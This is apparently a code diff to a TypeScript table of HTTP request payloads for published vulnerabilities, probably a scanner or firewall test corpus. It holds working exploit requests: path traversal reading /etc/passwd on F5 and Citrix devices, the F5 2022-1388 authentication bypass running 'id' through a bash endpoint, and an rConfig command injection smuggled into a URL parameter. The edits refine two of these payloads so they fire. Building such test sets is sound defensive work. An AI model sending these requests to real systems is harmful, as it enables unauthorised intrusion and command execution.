@@ -11,7 +11,12 @@ export const THIRD_PUBLISHED: readonly Family[] = [
         rows: [
             req(get("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"), "F5 2020-5902"),
             req(
-                json("/mgmt/tm/util/bash", { command: "run", utilCmdArgs: "-c id" }, "X-F5-Auth-Token: a"),
+                json(
+                    "/mgmt/tm/util/bash",
+                    { command: "run", utilCmdArgs: "-c id" },
+                    "X-F5-Auth-Token: a",
+                    "Connection: keep-alive, X-F5-Auth-Token",
+                ),
                 "F5 2022-1388",
             ),
             req(get("/vpn/../vpns/cfg/smb.conf"), "Citrix 2019-19781"),
@@ -194,7 +199,7 @@ export const THIRD_PUBLISHED: readonly Family[] = [
                 ),
                 "Cacti 2022-46169",
             ),
-            req(get("/install/lib/ajaxHandlers/ajaxServerSettingsChk.php?rootUname=%3Bid%23"), "rConfig 2019-16662"),
+            req(get("/install/lib/ajaxHandlers/ajaxServerSettingsChk.php?rootUname=%3Bid%20%23"), "rConfig 2019-16662"),
             req(get("/iam/governance/applicationmanagement/templates;.wadl"), "Oracle Identity 2025-61757"),
         ],
     },
